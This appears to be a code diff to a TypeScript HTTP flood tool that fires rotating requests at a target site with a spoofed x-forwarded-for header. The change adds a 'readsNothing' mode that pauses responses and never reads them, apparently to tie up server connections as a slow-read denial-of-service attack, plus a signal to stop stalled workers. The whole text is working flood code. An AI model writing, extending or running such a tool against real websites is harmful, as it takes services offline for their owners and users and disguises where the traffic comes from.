@@ -9,13 +9,15 @@ export interface FloodOrder {
   siteUrl: string;
   from: string;
   connections: number;
+  /** Takes nothing of the answers, and asks again where it was cut off. */
+  readsNothing: boolean;
   shots: { method: string; target: string; headers: Record<string, string>; body: Uint8Array | null }[];
 }
 
 /** Stands for a number in targets and bodies. */
 const COUNT = "0count0";
 
-function sendOne({ siteUrl, from, shots }: FloodOrder, agent: Agent, count: number): Promise<number> {
+function sendOne({ siteUrl, from, shots, readsNothing }: FloodOrder, agent: Agent, count: number): Promise<number> {
   const shot = shots[count % shots.length] as FloodOrder["shots"][number];
   const numbered = (text: string) => text.replaceAll(COUNT, String(count));
   const text = shot.body === null ? null : Buffer.from(shot.body);
@@ -24,6 +26,11 @@ function sendOne({ siteUrl, from, shots }: FloodOrder, agent: Agent, count: numb
   const headers = { ...shot.headers, "x-forwarded-for": from, ...(body === null ? {} : { "content-length": String(body.length) }) };
   return new Promise((resolve) => {
     const sending = request({ hostname, port, agent, method: shot.method, path: numbered(shot.target), headers }, (response) => {
+      if (readsNothing) {
+        response.pause();
+        response.on("close", () => resolve(response.statusCode ?? 0)).on("error", () => undefined);
+        return;
+      }
       response.resume();
       response.on("end", () => resolve(response.statusCode ?? 0));
       response.on("error", () => resolve(0));
@@ -44,9 +51,11 @@ async function flood(order: FloodOrder): Promise<void> {
     isOver = true;
     agent.destroy();
   });
+  /** One that reads nothing is told to stop while it waits. */
+  const stopped = new Promise<void>((resolve) => parentPort?.once("message", () => resolve()));
   const worker = async () => {
     while (!isOver) {
-      const status = await sendOne(order, agent, count++);
+      const status = await Promise.race([sendOne(order, agent, count++), stopped.then(() => 0)]);
       if (!isOver) statuses[status] = (statuses[status] ?? 0) + 1;
     }
   };
